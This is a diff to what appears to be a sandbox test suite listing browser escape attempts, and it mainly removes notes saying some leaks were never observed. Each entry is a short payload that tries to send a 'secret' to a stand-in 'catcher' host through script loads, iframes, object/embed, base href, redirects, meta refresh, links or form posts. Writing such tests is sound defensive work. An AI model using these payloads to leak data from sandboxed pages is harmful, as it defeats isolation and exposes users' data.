@@ -22,7 +22,6 @@ export const scripts: readonly Attack[] = [
   },
   {
     name: 'written document',
-    neverOut: 'seen to get out on a quiet machine only',
     alone: 'always',
     code: `document.write('<script src="' + catcher + '/written.js"></' + 'script>'); ${wait}`,
   },
@@ -51,7 +50,6 @@ export const scripts: readonly Attack[] = [
   },
   {
     name: 'shared worker',
-    neverOut: 'seen to get out on a quiet machine only',
     code: `const worker = new SharedWorker('data:text/javascript,onconnect=(event)=>event.ports[0].postMessage(1)');
       worker.port.onmessage = () => out('shared worker ran'); worker.port.start(); ${wait}`,
   },
@@ -66,7 +64,6 @@ export const scripts: readonly Attack[] = [
   },
   {
     name: 'base address',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     alone: 'always',
     code: `${html(`<base href="\${catcher}/">`)} new Image().src = 'based'; ${wait}`,
   },
@@ -76,42 +73,35 @@ export const scripts: readonly Attack[] = [
 export const frames: readonly Attack[] = [
   {
     name: 'frame of another site',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: html(`<iframe src="\${catcher}/frame"></iframe>`),
   },
   {
     name: 'frame with its own document',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: html(
       `<iframe srcdoc="<script src='\${catcher}/srcdoc.js'></script><img src='\${catcher}/srcdoc'>"></iframe>`,
     ),
   },
   {
     name: 'object and embed',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: html(`<object data="\${catcher}/object"></object><embed src="\${catcher}/embed">`),
   },
   {
     name: 'leaves with data in the address',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: `location.href = catcher + '/leave?secret'; ${wait}`,
     ends: LEFT,
   },
   {
     name: 'leaves by replace',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: `location.replace(catcher + '/replace?secret'); ${wait}`,
     ends: LEFT,
   },
   {
     name: 'leaves by a refresh in the page',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: html(`<meta http-equiv="refresh" content="0; url=\${catcher}/refresh">`) + wait,
     ends: LEFT,
   },
   {
     name: 'leaves by a link',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
     code: click(`<a href="\${catcher}/link">a</a>`),
     ends: LEFT,
   },
@@ -123,7 +113,7 @@ export const frames: readonly Attack[] = [
   },
   {
     name: 'leaves for a page of this site',
-    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    neverOut: 'it leads to this site: what counts is that the page takes the frame away',
     code: `location.href = '/user-guide?secret'; ${wait} ${wait}`,
     ends: LEFT,
   },
@@ -168,7 +158,6 @@ export const frames: readonly Attack[] = [
   },
   {
     name: 'sends a form',
-    neverOut: 'not seen to get out here',
     alone: 'to-succeed',
     code: use(
       `<form action="\${catcher}/send" method="post"><input name="secret" value="1"></form>`,
